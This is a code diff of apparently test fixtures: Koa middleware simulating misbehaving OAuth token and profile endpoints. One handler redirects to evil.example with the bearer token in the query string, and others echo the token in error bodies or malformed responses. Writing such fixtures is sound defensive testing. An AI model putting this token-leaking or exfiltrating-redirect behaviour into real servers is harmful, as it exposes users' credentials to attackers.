@@ -1,4 +1,6 @@
-import type {Middleware} from 'koa';
+import type {Context, Middleware} from 'koa';
+import {placedToken} from '../../scripts/standin/habits.ts';
+import type {Mixin} from '../../starter/auth/mixin.ts';
 import type {Secrets} from './secrets.ts';
 
 /** Token endpoints that give the token or the code away, in an answer that is none. */
@@ -44,21 +46,28 @@ export const tokenGiveaways = ({add}: Secrets): Record<string, Middleware> => {
 };
 
 /** Profile endpoints that quote the token that they were sent. */
-export const profileGiveaways: Record<string, Middleware> = {
-	refusal: ctx => {
-		ctx.status = 401;
-		ctx.body = {error: ctx.get('authorization')};
-	},
-	'no JSON': ctx => {
-		ctx.type = 'json';
-		ctx.body = `{"token":${ctx.get('authorization')}`;
-	},
-	nobody: ctx => {
-		ctx.body = {access_token: ctx.get('authorization')};
-	},
-	'another host': ctx => ctx.redirect(`https://evil.example/?token=${ctx.get('authorization')}`),
-	'no address': ctx => {
-		ctx.status = 302;
-		ctx.set('Location', `http://[${encodeURIComponent(ctx.get('authorization'))}`);
-	},
+export const profileGiveaways = (mixin: Mixin): Record<string, Middleware> => {
+	const shown = (ctx: Context): string => {
+		const token = placedToken(ctx, {mixin}) ?? ctx.get('authorization');
+		if (!token) throw new Error('there is no token to give away');
+		return token;
+	};
+	return {
+		refusal: ctx => {
+			ctx.status = 401;
+			ctx.body = {error: shown(ctx)};
+		},
+		'no JSON': ctx => {
+			ctx.type = 'json';
+			ctx.body = `{"token":${shown(ctx)}`;
+		},
+		nobody: ctx => {
+			ctx.body = {access_token: shown(ctx)};
+		},
+		'another host': ctx => ctx.redirect(`https://evil.example/?token=${shown(ctx)}`),
+		'no address': ctx => {
+			ctx.status = 302;
+			ctx.set('Location', `http://[${encodeURIComponent(shown(ctx))}`);
+		},
+	};
 };
